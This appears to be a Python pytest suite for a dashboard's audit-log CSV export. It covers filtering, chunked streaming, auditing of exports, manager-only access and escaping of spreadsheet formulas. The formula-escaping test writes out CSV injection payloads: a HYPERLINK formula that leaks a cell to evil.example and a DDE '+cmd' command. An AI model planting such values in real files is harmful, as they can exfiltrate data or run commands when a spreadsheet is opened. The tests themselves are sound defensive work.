"""The audit log's CSV export: the filtered entries only, every cell safe to open in a
spreadsheet, for Managers only, streamed in chunks, and itself audited."""

import csv
import io
from datetime import UTC, datetime

import pytest

from dashboard.audit import export
from dashboard.audit.models import Action, AuditEntry, Outcome
from dashboard.exports.columns import FORMULA_TRIGGERS
from tests.audit.dom import parse

HEADER = [
    "at",
    "username",
    "action",
    "action_label",
    "outcome",
    "api_status",
    "client_id",
    "client_ref",
    "ip_address",
    "message",
    "changes",
    "details",
]


def download(client, query: str = "") -> tuple[list[dict[str, str]], bytes]:
    response = client.get(f"/audit/export.csv{query}")
    assert response.status_code == 200, response.content[:300]
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    reader = csv.reader(io.StringIO(body.decode().removeprefix("\ufeff"), newline=""))
    header, *rows = list(reader)
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in rows], body


def entry(**fields) -> AuditEntry:
    fields.setdefault("action", Action.CLIENT_UPDATE)
    return AuditEntry.objects.create(**fields)


@pytest.fixture
def logged(manager):
    at = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
    return [
        entry(at=at, username="ada", client_id="id-1", client_ref="CL-1", ip_address="10.0.0.1"),
        entry(at=at, username="bola", action=Action.LOGIN_FAILED, outcome=Outcome.FAILURE),
        entry(
            at=datetime(2025, 3, 2, 9, 0, tzinfo=UTC),
            username="ada",
            action=Action.EXPORT_LOANS,
            client_id="id-1",
            client_ref="CL-1",
            details={"filters": {}, "rows": 4},
        ),
    ]


def test_the_file_holds_the_filtered_entries_only(manager_client, logged):
    rows, _ = download(manager_client, "?user=ada&to=2025-03-01")
    assert [(row["username"], row["action"]) for row in rows] == [("ada", "client.update")]
    (row,) = rows
    assert row == {
        "at": "2025-03-01T09:00:00.000Z",
        "username": "ada",
        "action": "client.update",
        "action_label": "Client updated",
        "outcome": "success",
        "api_status": "",
        "client_id": "id-1",
        "client_ref": "CL-1",
        "ip_address": "10.0.0.1",
        "message": "",
        "changes": "",
        "details": "",
    }
    by_client, _ = download(manager_client, "?client_id=id-1")
    assert [row["action"] for row in by_client] == ["export.loans", "client.update"]
    assert by_client[0]["details"] == '{"filters": {}, "rows": 4}'


def test_the_file_leaves_the_views_out_when_the_log_does(manager_client, logged):
    AuditEntry.objects.create(action=Action.CLIENT_VIEW, username="ada", client_ref="CL-1")
    everything, _ = download(manager_client, "")
    changes, _ = download(manager_client, "?action=not-views")
    assert "client.view" in {row["action"] for row in everything}
    # The first download is an entry of the second.
    assert [row for row in everything if row["action"] != "client.view"] == changes[1:]
    assert changes[0]["action"] == "export.audit"


def test_every_cell_is_safe_to_open_in_a_spreadsheet(manager_client, manager):
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    entry(
        username=hyperlink,
        action=Action.LOGIN_FAILED,
        outcome=Outcome.FAILURE,
        message="+cmd|' /C calc'!A0",
        client_ref="@SUM(1+1)",
        client_id="-2+3",
    )
    rows, body = download(manager_client, "?action=auth.login_failed")
    (row,) = rows
    assert row["username"] == "'" + hyperlink
    assert row["message"] == "'+cmd|' /C calc'!A0"
    assert row["client_ref"] == "'@SUM(1+1)" and row["client_id"] == "'-2+3"
    for cell in row.values():
        assert not cell or cell[0] not in FORMULA_TRIGGERS
    assert b"\n=HYPERLINK" not in body and b",=HYPERLINK" not in body


def test_the_export_is_audited_with_its_filters_and_rows(manager_client, manager, logged):
    download(manager_client, "?client_id=id-1&from=2025-03-01")
    audited = AuditEntry.objects.get(action=Action.EXPORT_AUDIT)
    assert audited.user == manager and audited.outcome == Outcome.SUCCESS
    assert audited.details == {"filters": {"from": "2025-03-01", "client_id": "id-1"}, "rows": 2}
    # Filtered by one client, it is part of that client's history.
    assert (audited.client_id, audited.client_ref) == ("id-1", "CL-1")


def test_the_file_is_what_existed_when_it_was_asked_for(manager_client, manager, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 2)
    for number in range(5):
        entry(username=f"user{number}")
    response = manager_client.get("/audit/export.csv?action=client.update")
    chunks = iter(response.streaming_content)
    next(chunks), next(chunks)  # the header and the first two rows
    entry(username="written-meanwhile")
    body = b"".join(chunks)
    assert b"written-meanwhile" not in body
    audited = AuditEntry.objects.get(action=Action.EXPORT_AUDIT)
    assert audited.details["rows"] == 5
    rows, _ = download(manager_client)
    assert "export.audit" in [row["action"] for row in rows]  # the first export, not its own


def test_chunks_follow_the_log_order_across_equal_times(manager_client, manager, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 3)
    same = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
    made = [entry(at=same, username=f"same{number}") for number in range(7)]
    made += [entry(at=datetime(2025, 2, day, tzinfo=UTC), username=f"feb{day}") for day in (3, 2)]
    rows, _ = download(manager_client, "?action=client.update")
    expected = [item.username for item in sorted(made, key=lambda e: (e.at, e.id), reverse=True)]
    assert [row["username"] for row in rows] == expected


def test_a_cancelled_download_is_audited_as_such(manager_client, manager, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 1)
    for number in range(3):
        entry(username=f"user{number}")
    response = manager_client.get("/audit/export.csv?action=client.update")
    chunks = iter(response.streaming_content)
    next(chunks), next(chunks), next(chunks)  # the header, a row sent, a row being sent
    response.close()
    audited = AuditEntry.objects.get(action=Action.EXPORT_AUDIT)
    assert audited.outcome == Outcome.FAILURE
    assert audited.message == "The download was cancelled." and audited.details["rows"] == 1


@pytest.mark.parametrize("who", ["viewer_client", "officer_client"])
def test_only_managers_may_export_it(request, who, logged):
    response = request.getfixturevalue(who).get("/audit/export.csv")
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action=Action.EXPORT_AUDIT).exists()


def test_wrong_filters_export_nothing(manager_client, logged):
    response = manager_client.get("/audit/export.csv?from=2025-03-05&to=2025-03-01")
    assert response.status_code == 400
    assert "To: the end date is before the start date." in response.content.decode()
    assert not AuditEntry.objects.filter(action=Action.EXPORT_AUDIT).exists()


def test_the_log_offers_the_export_of_what_it_shows(manager_client, viewer, logged):
    page = parse(manager_client.get("/audit/?user=ada&outcome=success").content)
    link = page.one("a", data_export=True)
    assert link["href"] == "/audit/export.csv?user=ada&outcome=success"
    assert "2 entries" in link.text
    fragment = parse(
        manager_client.get("/audit/?user=bola", headers={"HX-Request": "true"}).content
    )
    assert fragment.one("a", data_export=True)["href"] == "/audit/export.csv?user=bola"
